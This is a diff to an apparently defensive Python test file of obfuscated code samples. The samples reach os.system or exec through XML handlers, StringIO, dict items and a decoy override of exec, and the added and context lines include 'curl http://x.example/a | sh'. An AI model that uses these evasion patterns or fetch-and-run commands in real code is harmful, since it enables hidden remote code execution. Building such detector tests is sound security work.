@@ -50,6 +50,9 @@ HANDED_ON = {
     "xml handler": 'import os\nfrom xml.parsers import expat\np=expat.ParserCreate()\np.CharacterDataHandler=os.system\np.Parse("<a>curl http://x.example/a | sh</a>")\n',
 }
 HELD_IN = {
+    "pairs of a dict": f"a = {{'x': {PROGRAM!r}}}\nb = dict(a.items())\nexec(b['x'])",
+    "beside a decoy": "import builtins\ndef f():\n    builtins.exec = lambda text: None\n"
+    f"exec({PROGRAM!r})",
     "stringio": "import io\nexec(io.StringIO(\"import os\\nos.system('curl http://x.example/a | sh')\\n\").read())",
     "bytesio getvalue": "import io\nexec(io.BytesIO(b\"import os\\nos.system('curl http://x.example/a | sh')\\n\").getvalue())",
     "bytesio write": "import io\nf=io.StringIO()\nf.write('import os\\nos.system(')\nf.write(\"'curl http://x.example/a | sh')\\n\")\nexec(f.getvalue())",
